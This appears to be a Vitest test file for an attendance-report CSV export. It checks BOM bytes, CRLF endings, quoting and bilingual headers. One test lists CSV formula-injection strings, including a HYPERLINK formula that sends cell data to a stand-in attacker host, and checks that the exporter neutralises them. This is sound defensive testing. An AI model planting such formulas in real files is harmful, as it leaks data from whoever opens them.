import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { writeCsv } from '../../dashboard/reports/export/index.js';
import type { ReportRow } from '../../dashboard/reports/report-table.js';
import { BufferSink, HISTOGRAM, sampleTable } from './report-export-fixture.js';

async function csvOf(rows: ReportRow[] | undefined, language: 'en' | 'zh-HK' | 'both' = 'both'): Promise<Buffer> {
  const out = new BufferSink();
  await writeCsv(sampleTable(rows, { charts: [HISTOGRAM] }), out, { language });
  return out.bytes();
}

function records(bytes: Buffer): string[][] {
  // No bom option: the BOM is checked byte for byte and stripped here, so a missing one cannot slip by.
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parse(bytes.subarray(3).toString('utf8'), { relax_column_count: false }) as string[][];
}

describe('CSV export', () => {
  it('starts with a UTF-8 BOM, ends every record with CRLF and reads back cell for cell', async () => {
    const bytes = await csvOf(undefined);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    // Outside quoted fields every line end is CRLF: strip the quoted fields and look for a bare LF.
    expect(text.replace(/"(?:[^"]|"")*"/g, '').match(/(?<!\r)\n/g)).toBeNull();

    expect(records(bytes)).toEqual([
      ['Employee no. 員工編號', 'Name 姓名', 'Date 日期', 'In 上班', 'Late (min) 遲到（分鐘）', 'Hours 工時', 'Punches 打卡次數', 'Status 狀態'],
      ['E001', '陳大文', '2024-03-04', '08:55', '-5', '8.50', '2', 'OK 正常'],
      ['E002', '黃嘉欣', '2024-03-04', '09:17', '17', '7.75', '2', 'Late 遲到'],
      ['E003', 'Chan, Tai Man "Danny"', '2024-03-04', '09:02', '2', '7.50', '3', 'Grace 寬限'],
      ['E004', 'Line one\r\nline two\nthree', '2024-03-04', '09:00', '0', '8.00', '2', 'OK 正常'],
    ]);
  });

  it('quotes commas, quotes and line breaks as RFC 4180 says, and nothing else', async () => {
    const text = (await csvOf(undefined)).subarray(3).toString('utf8');
    expect(text).toContain('"Chan, Tai Man ""Danny"""');
    expect(text).toContain('"Line one\r\nline two\nthree"');
    expect(text).toContain('\r\nE001,陳大文,2024-03-04,08:55,-5,8.50,2,OK 正常\r\n');
  });

  it('writes headers in English, in Chinese, or both', async () => {
    expect(records(await csvOf([], 'en'))[0]?.slice(0, 2)).toEqual(['Employee no.', 'Name']);
    expect(records(await csvOf([], 'zh-HK'))[0]?.slice(0, 2)).toEqual(['員工編號', '姓名']);
    expect(records(await csvOf([], 'both'))).toHaveLength(1);
  });

  it('turns every formula-looking text cell into text with a quote prefix, and keeps numbers numbers', async () => {
    const attacks = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', '+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1'];
    const rows: ReportRow[] = attacks.map((name, index) => ({ cells: { no: `X${index}`, name, late: -(index + 1), hours: -0.5, punches: -3, status: name } }));
    const parsed = records(await csvOf(rows, 'en')).slice(1);
    expect(parsed.map((record) => record[1])).toEqual(attacks.map((attack) => `'${attack}`));
    expect(parsed.map((record) => record[7])).toEqual(attacks.map((attack) => `'${attack}`));
    // Real numbers are data: negative minutes, hours and counts keep their sign and get no quote.
    expect(parsed.map((record) => record[4])).toEqual(['-1', '-2', '-3', '-4', '-5', '-6']);
    expect(parsed.map((record) => [record[5], record[6]])).toEqual(Array(6).fill(['-0.50', '-3']));
  });

  it('guards a text value that a builder put in a number column', async () => {
    const parsed = records(await csvOf([{ cells: { late: '-', punches: '=2*3' } }], 'en'));
    expect(parsed[1]?.[4]).toBe("'-");
    expect(parsed[1]?.[6]).toBe("'=2*3");
  });

  it('renders a missing cell empty, not "undefined", and leaves the charts out', async () => {
    const bytes = await csvOf([{ cells: { no: 'E009' } }], 'en');
    expect(records(bytes)[1]).toEqual(['E009', '', '', '', '', '', '', '']);
    const text = bytes.toString('utf8');
    expect(text).not.toMatch(/undefined|null/);
    expect(text).not.toContain(HISTOGRAM.buckets[0]?.label);
  });
});
